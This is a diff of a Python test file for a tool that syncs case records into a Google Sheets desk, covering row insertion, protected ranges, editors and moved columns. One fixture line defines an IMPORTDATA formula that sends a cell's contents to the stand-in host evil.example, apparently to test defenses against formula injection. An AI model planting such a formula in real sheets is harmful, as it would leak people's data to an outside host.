@@ -7,7 +7,8 @@ import pytest
 
 from office.cases import Decision
 from sheets_sync import batch
-from sheets_sync.desk import HEADERS, LOOKS, Column, Write, projection
+from sheets_sync.columns import BY_SCRIPT, HEADERS, LOOKS, Column, find
+from sheets_sync.desk import Write, projection
 from tests.unit.builders import JAKARTA, SKU, arrival, dossier
 
 FORMULA = '=IMPORTDATA("https://evil.example/" & A2)'
@@ -54,15 +55,18 @@ def test_formulas_were_among_them() -> None:
 def test_new_rows_come_on_top_below_the_header() -> None:
     """The first given stands highest; people's cells are not touched."""
     first, second = (projection(dossier(key=key), SKU, JAKARTA) for key in ("SKU-1", "SKU-2"))
-    insert, write = batch.new_rows([first, second])
+    insert, write, *others = batch.new_rows([first, second])
     assert insert["insertDimension"]["range"] == {
         "sheetId": batch.DESK_TAB, "dimension": "ROWS", "startIndex": 1, "endIndex": 3,
     }  # fmt: skip
     assert insert["insertDimension"]["inheritFromBefore"] is False
     body = write["updateCells"]
     assert body["start"] == {"sheetId": batch.DESK_TAB, "rowIndex": 1, "columnIndex": Column.NAME}
-    assert [len(line["values"]) for line in body["rows"]] == [Column.NEWS - Column.NAME + 1] * 2
-    assert [line["values"][Column.KEY - Column.NAME]["userEnteredValue"]["stringValue"] for line in body["rows"]] == [
+    assert [len(line["values"]) for line in body["rows"]] == [Column.STATUS - Column.NAME + 1] * 2
+    body = others[0]["updateCells"]
+    assert [
+        line["values"][Column.KEY - Column.ANSWERS]["userEnteredValue"]["stringValue"] for line in body["rows"]
+    ] == [
         "SKU-1",
         "SKU-2",
     ]
@@ -98,8 +102,12 @@ def test_a_new_desk_explains_itself() -> None:
     cells = head["rows"][0]["values"]
     assert [cell["userEnteredValue"]["stringValue"] for cell in cells] == list(HEADERS)
     assert all(cell["note"] for cell in cells)
-    widths = [body["properties"]["pixelSize"] for body in of_kind(requests, "updateDimensionProperties")]
-    assert widths == [look.width for look in LOOKS.values()]
+    lines = of_kind(requests, "updateDimensionProperties")
+    widths = [body["properties"]["pixelSize"] for body in lines if "pixelSize" in body["properties"]]
+    assert [body["range"]["startIndex"] for body in lines if body["properties"] == {"hiddenByUser": True}] == [
+        Column.CHAT
+    ]
+    assert widths == [*(look.width for look in LOOKS.values())]
     assert of_kind(requests, "repeatCell")[0]["cell"]["userEnteredFormat"]["numberFormat"] == {"type": "TEXT"}
 
 
@@ -116,11 +124,48 @@ def test_the_dropdown_offers_every_decision_and_nothing_else() -> None:
 
 
 def test_people_are_warned_off_the_scripts_cells() -> None:
-    """Warned, not locked out; their own columns are free."""
-    (body,) = of_kind(batch.new_desk(), "addProtectedRange")
-    span = body["protectedRange"]["range"]
-    assert body["protectedRange"]["warningOnly"] is True
-    assert (span["startColumnIndex"], span["endColumnIndex"]) == (Column.NAME, Column.REMARKS)
+    """Warned, not locked out; their own columns are free below the header."""
+    header, *spans = [body["protectedRange"] for body in of_kind(batch.new_desk(), "addProtectedRange")]
+    assert {body["warningOnly"] for body in (header, *spans)} == {True}
+    assert header["range"] == {"sheetId": batch.DESK_TAB, "endRowIndex": 1}
+    ends = [(body["range"]["startColumnIndex"], body["range"]["endColumnIndex"]) for body in spans]
+    assert [column for start, end in ends for column in range(start, end)] == list(BY_SCRIPT)
+
+
+def test_named_accounts_lock_everybody_else_out() -> None:
+    """Where the village names them: the script's own account is one of them."""
+    editors = ["bot@contoh.iam", "kades@contoh.id"]
+    bodies = [body["protectedRange"] for body in of_kind(batch.new_desk(editors=editors), "addProtectedRange")]
+    assert [body["editors"] for body in bodies] == [{"users": editors}] * len(bodies)
+    assert not any("warningOnly" in body for body in bodies)
+
+
+def test_writes_follow_moved_columns() -> None:
+    """People put Status first and a column of their own between."""
+    layout = find(["Status", "Paraf", *(title for title in HEADERS if title != "Status")])
+    (write,) = batch.put_right([Write(4, Column.STATUS, "SKU-1", "Selesai")], layout)
+    assert write["updateCells"]["start"]["columnIndex"] == 0
+    _, *writes = batch.new_rows([projection(dossier(), SKU, JAKARTA)], layout)
+    starts = [body["start"]["columnIndex"] for body in of_kind(writes, "updateCells")]
+    assert starts == [layout.place(run[0]) for run in layout.runs(BY_SCRIPT)]
+    assert 1 not in [place for run in layout.runs(BY_SCRIPT) for place in map(layout.place, run)]
+
+
+def test_only_services_that_need_it_get_a_tick_box() -> None:
+    """And a row does not keep the box of the row below."""
+    first, second = (projection(dossier(key=key), SKU, JAKARTA) for key in ("SKU-1", "SKU-2"))
+    boxes = of_kind(batch.new_rows([first, second], with_tick=["SKU-2"]), "setDataValidation")
+    assert [body.get("rule", {}).get("condition") for body in boxes] == [None, {"type": "BOOLEAN"}]
+    assert [body["range"]["startRowIndex"] for body in boxes] == [1, 2]
+
+
+def test_a_column_that_is_gone_comes_back_at_the_end() -> None:
+    """The grid grows where it has to."""
+    wider, head, *_ = batch.columns_again([Column.DECISION], first=17, width=17)
+    assert wider["appendDimension"] == {"sheetId": batch.DESK_TAB, "dimension": "COLUMNS", "length": 1}
+    assert head["updateCells"]["start"]["columnIndex"] == 17
+    assert not of_kind(batch.columns_again([Column.NEWS], first=16, width=17), "appendDimension")
+    assert of_kind(batch.columns_again([Column.DECISION], first=16, width=17), "setDataValidation")
 
 
 def test_digit_columns_of_a_form_are_kept_as_text() -> None:
